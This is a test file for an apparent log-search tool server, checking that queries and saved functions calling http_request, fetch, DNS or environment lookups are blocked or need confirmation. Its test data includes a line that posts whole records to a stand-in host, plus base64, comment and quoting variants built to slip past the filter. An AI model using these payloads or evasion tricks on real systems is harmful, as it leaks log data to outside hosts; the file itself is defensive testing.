import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { reachingFunctions } from '../../src/call/checks/vrl.ts';
import { REACHING_VRL_FUNCTIONS, VRL_FUNCTIONS } from '../../src/call/checks/vrl-functions.ts';
import { ConfirmationRequired } from '../../src/errors.ts';
import { INPUT_SCHEMAS } from '../../src/generated/schemas.ts';
import { TOOLS } from '../../src/generated/tools.ts';
import { type FakeOpenObserve, sendJson, startFakeOpenObserve } from '../helpers/fake-openobserve.ts';
import { appAt, runTool } from '../helpers/run-tool.ts';

const REQUEST = '.x = http_request!("http://trap.example/x", method: "post", body: encode_json(.))\n.';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const base64url = (text: string) => Buffer.from(text).toString('base64url');
const OTHERS = ['dns_lookup', 'reverse_dns', 'get_hostname', 'get_env_var', 'validate_json_schema', 'log'];
const SQL = 'SELECT a FROM "app"';

let fake: FakeOpenObserve;
const bodies = () => fake.seen.filter(({ method }) => method !== 'GET').map(({ body }) => body);
beforeAll(async () => {
  fake = await startFakeOpenObserve(({ path }, response) =>
    sendJson(
      response,
      path.endsWith('/functions/test') ? { results: [{ event: { a: 1 } }] } : { hits: [], list: [] },
    ),
  );
});
beforeEach(() => {
  fake.seen.length = 0;
});
afterAll(() => fake.close());

describe('row 1: a "read" tool sent any HTTP request', () => {
  it('test_function is no read: it is out of read-only views, and is confirmed', async () => {
    expect(TOOLS.find(({ name }) => name === 'test_function')?.access).toBe('write');
    const args = { function: REQUEST, events: [{ a: 1 }] };
    const readOnly = await appAt(fake.url, { O2_READ_ONLY: 'true' });
    expect((await runTool(readOnly, 'test_function', args)).error?.code).toBe('unknown_tool');
    await readOnly.close();
    const app = await appAt(fake.url);
    const { error, text } = await runTool(app, 'test_function', args);
    expect(error).toBeInstanceOf(ConfirmationRequired);
    expect(text).toContain('function calls http_request, which may reach beyond the records');
    expect(fake.seen).toEqual([]);
    const { token } = error as ConfirmationRequired;
    const tried = await runTool(app, 'test_function', { ...args, confirm: token });
    expect(tried.text).toContain('"a":1');
    await app.close();
  });

  it.each<[string, string]>([
    ['as it is', REQUEST],
    ['in base64', base64(REQUEST)],
    ['in the base64 of addresses', base64url(REQUEST)],
    ['in base64 with points at its end', base64(`${REQUEST} `).replaceAll('=', '.')],
    ['in base64 twice', base64(base64(REQUEST))],
    ['over all rows', `#ResultArray#\n${REQUEST}`],
    ['on the line that says: over all rows', `#ResultArray# ${REQUEST}`],
    ['with blanks', '.x = http_request! ("http://trap.example")'],
    ['after a text that seems to go on', `.a = s'\\' ; .x = http_request!("http://trap.example") # '`],
    ['behind a comment that another line end ends', '# a\r.x = http_request!("http://trap.example")'],
    ['in what looks like a text', `.a = "{{ http_request!(.b) }}"`],
    ...OTHERS.map((name): [string, string] => [name, `.x = ${name}!(.a)`]),
    ['one that is not known', '.x = brand_new_in_the_next_release(.a)'],
    ['JavaScript', 'function f(row) { fetch("http://trap.example"); return row }'],
  ])('query_fn is checked against a list of allowed functions: %s', async (_, query_fn) => {
    const app = await appAt(fake.url, { O2_CONFIRM: 'never' });
    for (const [tool, args] of [
      ['search_sql', { sql: SQL, query_fn }],
      ['search_sql', { request_body: { query: { sql: SQL, query_fn } } }],
      ['search_partition', { sql: SQL, query_fn }],
      ['extract_patterns', { stream_name: 'app', sql: SQL, query_fn }],
    ] as const) {
      const { error, text } = await runTool(app, tool, { ...args });
      expect(error?.code).toBe('code_not_allowed');
      expect(text).toMatch(/only reads, but query_fn calls \w+.*, which may reach beyond the records/);
    }
    expect(fake.seen).toEqual([]);
    await app.close();
  });

  it('code of nested arguments of a read is checked, and scripts that are kept do not run', async () => {
    const app = await appAt(fake.url);
    const alert = {
      stream_name: 'app',
      stream_type: 'logs',
      query_condition: { type: 'sql', sql: SQL, vrl_function: base64(REQUEST) },
    };
    expect((await runTool(app, 'generate_sql', alert)).error?.code).toBe('code_not_allowed');
    expect((await runTool(app, 'search_sql', { sql: SQL, action_id: 'script-1' })).error?.code).toBe(
      'code_not_allowed',
    );
    expect(fake.seen).toEqual([]);
    await app.close();
  });

  it('what works on the record alone still runs', async () => {
    const app = await appAt(fake.url);
    const query_fn = `# http requests are counted (all of them)
.level = downcase(string!(.level))
.parsed, err = parse_json(.message)
if (err != null) { .note = "dns lookup (failed)" } else if !is_null(.parsed) { . |= object!(.parsed) }
.ok = .a!=null
.team = get_enrichment_table_record!("hosts", {"host": .host}).team
for_each(array!(.tags)) -> |_index, tag| { .all = push(array!(.all), upcase(string!(tag))) }
.`;
    for (const given of [query_fn, base64url(query_fn), `#ResultArray#\n. = array!(.)\n.`]) {
      const { error } = await runTool(app, 'search_sql', { sql: SQL, query_fn: given });
      expect(error).toBeNull();
      expect(bodies().map((body) => JSON.parse(body).query.query_fn)).toContain(given);
    }
    await app.close();
  });

  it('lists no function as allowed that is known to reach out', () => {
    expect(REACHING_VRL_FUNCTIONS.filter((name) => VRL_FUNCTIONS.has(name))).toEqual([]);
    expect(VRL_FUNCTIONS.size).toBeGreaterThan(150);
  });

  it.each([
    ['quotes', '"'],
    ['backslashes', '\\'],
    ['comments', '# result '],
    ['words', 'a!'],
    ['blanks', ' '],
    ['base64', 'QUFB'],
    ['names that reach out', 'http_request '],
    ['open texts', "s'"],
    ['brackets', 'a (\t'],
  ])('reads a megabyte of %s in time', (_, part) => {
    const text = part.repeat(Math.ceil(1e6 / part.length));
    const before = process.threadCpuUsage();
    reachingFunctions(text);
    const { user, system } = process.threadCpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(1000);
  });
});

describe('row 1: code that writes leave behind', () => {
  const alert = {
    name: 'a',
    stream_name: 'app',
    stream_type: 'logs',
    query_condition: { type: 'sql', sql: SQL, vrl_function: base64(REQUEST) },
    trigger_condition: { period: 10, operator: '>=', threshold: 1, frequency: 1, silence: 30 },
    destinations: ['ops'],
  };
  const { examples = [] } = INPUT_SCHEMAS.add_panel ?? {};
  const [{ panel: example }] = examples as [{ panel: { queries: object[] } }];
  const panel = { ...example, queries: [{ ...example.queries[0], vrlFunctionQuery: REQUEST }] };
  it.each([
    ['create_function', { name: 'f', function: REQUEST }, /function calls http_request/],
    [
      'create_function',
      { name: 'f', function: 'function f(row) {}', transType: 1 },
      /transType says that the function is not VRL/,
    ],
    ['submit_search_job', { sql: SQL, query_fn: REQUEST }, /query_fn calls http_request/],
    ['submit_search_job', { sql: SQL, action_id: 'script-1' }, /action_id runs a script/],
    ['create_alert', alert, /query_condition.vrl_function calls http_request/],
    [
      'create_dashboard',
      { title: 'd', tabs: [{ tabId: 't', name: 't', panels: [panel] }] },
      /tabs.0.panels.0.queries.0.vrlFunctionQuery calls http_request/,
    ],
  ])('%s is confirmed where its code may reach out', async (tool, args, says) => {
    const app = await appAt(fake.url);
    const { error, text } = await runTool(app, tool, args);
    expect(error).toBeInstanceOf(ConfirmationRequired);
    expect(text).toMatch(says);
    expect(bodies()).toEqual([]);
    await app.close();
  });

  it('a function of VRL that stays with the record is made without a word', async () => {
    const app = await appAt(fake.url);
    expect((await runTool(app, 'create_function', { name: 'f', function: '.a = 1\n.' })).error).toBeNull();
    await app.close();
  });
});
